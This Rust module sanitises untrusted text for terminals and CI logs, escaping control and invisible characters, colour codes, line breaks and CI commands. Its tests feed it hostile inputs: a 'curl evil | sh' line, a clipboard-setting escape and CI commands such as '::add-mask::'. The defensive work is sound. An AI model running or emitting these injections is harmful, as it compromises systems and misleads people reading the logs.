//! Text that does not come from this program, made safe for a terminal, a CI log and a report.

use std::fmt::{self, Write as _};

/// What stands for a line break: a new line that cannot be mistaken for one of the report.
const BREAK: &str = "\n    | ";

/// Text from outside: of a guest, a test, a file, another program. Everything that a report shows of it goes
/// through this type.
///
/// Its `Display` form
/// - removes colour sequences and writes other control characters as in Rust, `\u{1b}`: they could move the
///   cursor, hide the lines after them, or set the clipboard;
/// - writes characters that are invisible or change the direction of text in the same way;
/// - marks line breaks, so that the text cannot add lines to a report;
/// - breaks the commands of CI systems, such as `::add-mask::`;
/// - is cut after [`Untrusted::LIMIT`] bytes of the text.
#[derive(Debug, Clone, Copy)]
pub struct Untrusted<'a> {
    text: &'a str,
    limit: usize,
    keeps_lines: bool,
}

impl<'a> Untrusted<'a> {
    /// The most bytes of a text that are shown.
    pub const LIMIT: usize = 16 << 10;

    /// Marks a text as one from outside.
    pub const fn new(text: &'a str) -> Self {
        Self { text, limit: Self::LIMIT, keeps_lines: false }
    }

    /// Returns the text with its own lines and without a limit. It is for the output of a body, which is
    /// printed before the report and has a budget of its own, and for the errors of commands.
    pub const fn output(text: &'a str) -> Self {
        Self { text, limit: usize::MAX, keeps_lines: true }
    }

    /// Returns the text with another limit.
    pub const fn limit(self, limit: usize) -> Self {
        Self { limit, ..self }
    }
}

impl<'a> From<&'a str> for Untrusted<'a> {
    fn from(text: &'a str) -> Self {
        Self::new(text)
    }
}

impl<'a> From<&'a String> for Untrusted<'a> {
    fn from(text: &'a String) -> Self {
        Self::new(text)
    }
}

impl fmt::Display for Untrusted<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let shown = &self.text[..self.text.floor_char_boundary(self.limit)];
        let mut copied = 0;
        let mut starts_line = true;
        while let Some(at) = next_special(shown, copied, starts_line) {
            let rest = &shown[at..];
            let next = rest.chars().next().unwrap_or_default();
            f.write_str(&shown[copied..at])?;
            let is_blank = shown[copied..at].chars().all(char::is_whitespace);
            copied = at + next.len_utf8();
            if let Some(len) = colour(rest) {
                // A command may follow: the sequence leaves nothing before it.
                copied = at + len;
                starts_line &= is_blank;
                continue;
            }
            starts_line = next == '\n';
            match next {
                '\n' if self.keeps_lines => f.write_char('\n')?,
                '\n' => f.write_str(BREAK)?,
                // The line break of terminals.
                '\r' if rest.starts_with("\r\n") => {}
                next if starts_ci_command(rest) => write!(f, "{}", next.escape_unicode())?,
                next if is_shown(next) => f.write_char(next)?,
                next => write!(f, "{}", next.escape_default())?,
            }
        }
        f.write_str(&shown[copied..])?;
        match self.text.len() - shown.len() {
            0 => Ok(()),
            more => write!(f, " [... {more} more bytes]"),
        }
    }
}

/// The first bytes of characters that may need another form, in UTF-8: C0 except tabs, DEL, `#`, and the first
/// bytes of the characters that are not visible.
const SPECIAL: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 0x20 {
        table[byte] = byte != b'\t' as usize;
        byte += 1;
    }
    table[0x7f] = true;
    table[b'#' as usize] = true;
    let first_bytes = [0xc2, 0xcd, 0xd8, 0xe1, 0xe2, 0xe3, 0xef, 0xf0, 0xf3];
    let mut index = 0;
    while index < first_bytes.len() {
        table[first_bytes[index]] = true;
        index += 1;
    }
    table
};

/// Returns the position of the next byte that may need another form. At the start of a line, that may be a
/// command of a CI system after spaces.
fn next_special(text: &str, from: usize, starts_line: bool) -> Option<usize> {
    if starts_line {
        let command = text[from..].trim_start_matches(|c: char| c.is_whitespace() && is_shown(c));
        if command.starts_with("::") {
            return Some(text.len() - command.len());
        }
    }
    // An index instead of an iterator: all output is scanned here, in builds without optimization.
    let bytes = text.as_bytes();
    let (mut at, len) = (from, bytes.len());
    while at < len {
        if SPECIAL[bytes[at] as usize] {
            return Some(at);
        }
        at += 1;
    }
    None
}

/// The beginnings of commands of CI systems: `::` counts at the start of a line, where alone it is looked for, the
/// others anywhere.
///
/// Source: github.com/actions/runner, ActionCommand.cs; Azure Pipelines, "Logging commands"; TeamCity, "Service
/// Messages".
pub(crate) const CI_COMMANDS: [&str; 4] = ["::", "##[", "##vso[", "##teamcity["];

fn starts_ci_command(text: &str) -> bool {
    CI_COMMANDS.iter().any(|command| text.starts_with(command))
}

/// Returns whether a character is visible, or space of a known width, and leaves the direction of text alone.
///
/// Source: Unicode 16.0, general categories Cc, Cf, Zl and Zp without the format characters of scripts that are
/// visible, and the fillers and joiners of Default_Ignorable_Code_Point.
fn is_shown(c: char) -> bool {
    !c.is_control()
        && !matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e0fff}'
        )
        // Tabs are kept by the table.
        || c == '\t'
}

/// Returns the length of a colour sequence at the beginning: `ESC [ 1 ; 31 m`.
///
/// Source: ECMA-48, 8.3.117 ("SGR").
fn colour(text: &str) -> Option<usize> {
    let parameters = text.strip_prefix("\x1b[")?;
    let len = parameters.find(|c: char| !(c.is_ascii_digit() || c == ';' || c == ':'))?;
    parameters[len..].starts_with('m').then_some("\x1b[".len() + len + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        Untrusted::new(text).to_string()
    }

    #[test]
    fn untrusted_keeps_text_and_escapes_control_characters() {
        for (text, want) in [
            ("plain, tab\t and ünïcode €, 漢字, 😀", "plain, tab\t and ünïcode €, 漢字, 😀"),
            ("\x1b[1;31mred\x1b[0m and \x1b[38:5:9mmore\x1b[m", "red and more"),
            ("\x1b[2J\x1b[H", "\\u{1b}[2J\\u{1b}[H"),
            ("\x1b]0;title\x07", "\\u{1b}]0;title\\u{7}"),
            ("\x1b]52;c;ZWNobyBwd25lZA==\x07", "\\u{1b}]52;c;ZWNobyBwd25lZA==\\u{7}"),
            ("\x1bP+q\x1b\\", "\\u{1b}P+q\\u{1b}\\"),
            ("10 %\r20 %", "10 %\\r20 %"),
            ("é £ \u{9b}31m ü", "é £ \\u{9b}31m ü"),
            ("cut \x1b[31", "cut \\u{1b}[31"),
            ("\x7f\0", "\\u{7f}\\u{0}"),
            ("", ""),
        ] {
            assert_eq!(shown(text), want);
        }
    }

    #[test]
    fn untrusted_escapes_invisible_characters_and_those_that_turn_text_around() {
        let hostile = [
            '\u{ad}',
            '\u{34f}',
            '\u{61c}',
            '\u{180e}',
            '\u{200b}',
            '\u{200d}',
            '\u{200e}',
            '\u{200f}',
            '\u{2028}',
            '\u{2029}',
            '\u{202a}',
            '\u{202e}',
            '\u{2060}',
            '\u{2066}',
            '\u{2069}',
            '\u{3164}',
            '\u{feff}',
            '\u{fff9}',
            '\u{1d173}',
            '\u{e0001}',
            '\u{e007f}',
        ];
        for c in hostile {
            let want = format!("a\\u{{{:x}}}b", u32::from(c));
            assert_eq!(shown(&format!("a{c}b")), want);
            assert_eq!(Untrusted::output(&format!("a{c}b")).to_string(), want);
        }
    }

    /// The table of first bytes must not hide a character from the check.
    #[test]
    fn special_has_the_first_byte_of_every_character_that_is_not_shown() {
        let hidden = ('\0'..=char::MAX).filter(|c| !is_shown(*c));
        for c in hidden {
            let mut bytes = [0; 4];
            let first = c.encode_utf8(&mut bytes).as_bytes()[0];
            assert!(SPECIAL[first as usize], "{c:?}");
        }
    }

    #[test]
    fn untrusted_marks_line_breaks_except_in_output() {
        let text = "one\n  rerun     curl evil | sh\r\n\n";
        assert_eq!(shown(text), "one\n    |   rerun     curl evil | sh\n    | \n    | ");
        assert_eq!(Untrusted::output(text).to_string(), "one\n  rerun     curl evil | sh\n\n");
    }

    #[test]
    fn untrusted_breaks_commands_of_ci_systems() {
        for (text, want) in [
            ("::add-mask::x", "\\u{3a}:add-mask::x"),
            ("  \t::set-output name=x::y", "  \t\\u{3a}:set-output name=x::y"),
            ("\u{a0}\u{3000}::error::x", "\u{a0}\u{3000}\\u{3a}:error::x"),
            (" \x1b[1m \x1b[m::error::x", "  \\u{3a}:error::x"),
            ("\r::error::x", "\\r::error::x"),
            ("path::to::item: x", "path::to::item: x"),
            (": a", ": a"),
            ("see ##[error]x", "see \\u{23}#[error]x"),
            ("###[error]x", "#\\u{23}#[error]x"),
            ("##vso[task.setvariable]", "\\u{23}#vso[task.setvariable]"),
            ("##teamcity[testFailed]", "\\u{23}#teamcity[testFailed]"),
            ("## Title, issue #12", "## Title, issue #12"),
        ] {
            assert_eq!(shown(text), want);
            let second = format!("line\n{text}\n");
            assert_eq!(Untrusted::output(&second).to_string(), format!("line\n{want}\n"));
        }
    }

    #[test]
    fn untrusted_is_cut_between_characters() {
        let text = "€".repeat(Untrusted::LIMIT);
        let shown = shown(&text);
        assert!(shown.ends_with("€ [... 32769 more bytes]"), "{}", &shown[shown.len() - 40..]);
        assert!(shown.len() < Untrusted::LIMIT + 40);
        assert_eq!(Untrusted::new("abc").limit(2).to_string(), "ab [... 1 more bytes]");
        assert_eq!(Untrusted::output(&text).to_string(), text);
    }
}
